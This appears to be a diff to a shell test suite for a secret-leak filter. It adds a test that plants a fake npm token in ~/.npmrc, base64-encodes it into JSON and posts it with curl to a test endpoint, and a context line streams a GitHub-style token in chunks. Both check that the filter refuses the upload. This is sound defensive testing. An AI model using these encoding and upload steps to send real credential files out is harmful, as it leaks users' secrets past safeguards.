@@ -95,6 +95,16 @@ t_grep "the same in hex in a header: refused" 'user-secret.*after hex' "$T_OUT"
 t_nogrep "the value is on no output of can" "$REAL" "$T_ERR"
 unset DEPLOY_PASSWORD
 t_grep "it never reached the origin" '^0$' "$(at_origin "$REAL")"
+# A credential file of the user's: read at start, refused in any request.
+NPMREAL=npm-registry-secret-$RANDOM$RANDOM
+[ -e "$HOME/.npmrc" ] && cp "$HOME/.npmrc" "$TOP/npmrc.saved"
+printf '//registry.npmjs.org/:_authToken=%s\n' "$NPMREAL" >"$HOME/.npmrc"
+printf '{"note":"%s"}' "$(printf %s "$NPMREAL" | base64)" >smuggled.json
+t_run inside curl -sS -m 20 -D - -H 'Content-Type: application/json' --data-binary @smuggled.json "http://$H/v1/leak-npmrc"
+t_grep "the ~/.npmrc token, base64'd in JSON: refused" 'user-secret \(~/.npmrc\) in body.* after base64' "$T_OUT"
+rm -f "$HOME/.npmrc"
+[ -e "$TOP/npmrc.saved" ] && cp "$TOP/npmrc.saved" "$HOME/.npmrc"
+t_grep "it never reached the origin" '^0$' "$(at_origin "$NPMREAL")"
 
 # --- a token split across chunks of a streamed upload ---
 t_run inside sh -c "(printf 'first part ghp_C3J27XDCG2'; sleep 0.5; printf 'LmlZGEONYlgCtjfIZ4SO2Hjn6r rest') | curl -sS -m 20 -D - -H 'Transfer-Encoding: chunked' -T - http://$H/v1/leak-chunked"
